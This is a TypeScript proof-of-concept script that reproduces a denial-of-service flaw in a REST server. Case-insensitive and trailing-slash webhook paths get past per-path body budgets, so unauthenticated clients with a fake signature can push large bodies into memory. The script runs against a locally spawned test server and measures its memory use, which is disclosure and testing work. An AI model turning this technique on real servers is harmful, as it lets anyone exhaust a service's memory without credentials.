// Repro: the REST port picks a request's budget by its exact path (`budgets.get(path) ?? own`,
// src/rest/server.ts:135), but @koa/router routes case-insensitively and with an optional trailing
// slash. POST /webhook/github/ (or /WEBHOOK/GITHUB) is therefore admitted under the REST API's budget
// (1 MiB per body; a chunked body reserves only 1 MiB) yet handled by the GitHub router, which reads
// (unauthenticated: only the header's FORM is checked first) up to githubWebhook.bodyLimitBytes = 25 MiB
// into memory before checking the HMAC. No secret, no token: any caller of port 8443.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { request } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pino from 'pino';
import { createAuthority } from '../src/certs/authority.js';
import { loadDefaultConfig } from '../src/config/load.js';
import { staticConfig } from '../src/api/index.js';
import { startRestApi } from '../src/app/rest-api.js';

import { fork } from 'node:child_process';
import { readFileSync } from 'node:fs';
if (process.argv[2] !== 'server') {
  // client: start the server in its own process, measure ITS rss
  const child = fork(process.argv[1]!, ['server'], { execArgv: process.execArgv, stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  const port: number = await new Promise((r) => child.once('message', (m) => r(Number(m))));
  const rss = () => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'))?.[1] ?? 0) / 1024;
  await client(port, rss);
  child.kill();
  process.exit(0);
}
const dir = mkdtempSync(join(tmpdir(), 'api-'));
const ca = await createAuthority();
const serving = await ca.issueServing({ commonName: 'api', ipAddresses: ['127.0.0.1'] });
writeFileSync(join(dir, 'tls.crt'), serving.certPem);
writeFileSync(join(dir, 'tls.key'), serving.keyPem);
const config = loadDefaultConfig();
console.log('api.bodyLimitBytes', config.api.bodyLimitBytes, 'github.bodyLimitBytes', config.githubWebhook.bodyLimitBytes, 'api.requestTimeoutSeconds', config.api.requestTimeoutSeconds);
const server = await startRestApi({
  address: { port: 0, host: '127.0.0.1' },
  certificates: { certFile: join(dir, 'tls.crt'), keyFile: join(dir, 'tls.key') },
  client: {} as never,
  config: staticConfig(config),
  githubSecrets: () => ['the-real-webhook-secret'],
  logger: pino({ level: 'silent' }),
  local: false,
});

process.send?.(String(server.port));
await new Promise(() => {});

async function client(port: number, serverRss: () => number) {
function send(path: string, mib: number): Promise<string> {
  return new Promise((resolve) => {
    const req = request(
      {
        host: '127.0.0.1', port, path, method: 'POST', rejectUnauthorized: false,
        headers: {
          'content-type': 'application/json',
          'x-hub-signature-256': `sha256=${'0'.repeat(64)}`, // any well-formed value, no secret
          'transfer-encoding': 'chunked',
        },
      },
      (res) => {
        let text = '';
        res.on('data', (c) => (text += c));
        res.on('end', () => resolve(`${res.statusCode} ${text.slice(0, 160)}`));
      },
    );
    req.on('error', (e) => resolve(`error ${e.message}`));
    const chunk = Buffer.alloc(1024 * 1024, 0x20);
    let sent = 0;
    const pump = () => {
      while (sent < mib) {
        sent++;
        if (!req.write(chunk)) return void req.once('drain', pump);
      }
      req.end();
    };
    pump();
  });
}

const rssBefore = serverRss();
console.log('server rss idle', Math.round(rssBefore), 'MiB');
for (const path of [`https://127.0.0.1:${port}/webhook/github`, '/api/v1/namespaces/x/coderuns', '/webhook/github', '/webhook/github/', '/WEBHOOK/GitHub']) {
  console.log(`POST ${path} with a 20 MiB chunked body ->`, await send(path, 20));
}
// 20 such requests at once through the bypass (the API budget: 64 at once, 1 MiB reserved each).
let peak = 0;
const timer = setInterval(() => (peak = Math.max(peak, serverRss())), 20);
const t0 = Date.now();
const answers: string[] = []; if (0) await Promise.all(Array.from({ length: 20 }, () => send('/webhook/github/', 24)));
clearInterval(timer);
const counts: Record<string, number> = {};
for (const a of answers) counts[a.slice(0, 3)] = (counts[a.slice(0, 3)] ?? 0) + 1;
console.log(`20 concurrent 24 MiB bodies via /webhook/github/: statuses ${JSON.stringify(counts)} in ${Date.now() - t0} ms; peak rss of the SERVER process ${Math.round(peak)} MiB (idle ${Math.round(rssBefore)} MiB)`);
}
